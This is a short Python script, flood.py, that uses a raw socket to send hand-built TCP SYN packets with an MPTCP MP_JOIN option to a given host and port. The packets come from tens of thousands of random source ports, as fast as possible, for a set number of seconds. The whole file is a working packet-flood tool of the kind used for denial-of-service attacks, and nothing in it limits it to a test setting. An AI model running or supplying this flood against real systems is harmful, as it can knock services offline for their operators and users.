"""flood.py SOURCE DESTINATION PORT SECONDS: SYNs with MP_JOIN from ever other source ports, as fast as they go."""
import random
import socket
import struct
import sys
import time

source, destination, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
options = b"\x02\x04\x05\xb4" + struct.pack("!BBBBII", 30, 12, 0x10, 7, 1, 2)
base = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, 20 + len(options))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.bind((source, 0))
end, sent = time.monotonic() + seconds, 0
ports = random.sample(range(1024, 60000), 58000)
while time.monotonic() < end and ports:
    header = struct.pack("!HHIIBBHHH", ports.pop(), port, 7, 0, (20 + len(options)) << 2, 2, 65535, 0, 0) + options
    data = base + header
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    raw.sendto(header[:16] + struct.pack("!H", ~total & 0xFFFF) + header[18:], (destination, 0))
    sent += 1
print(sent)
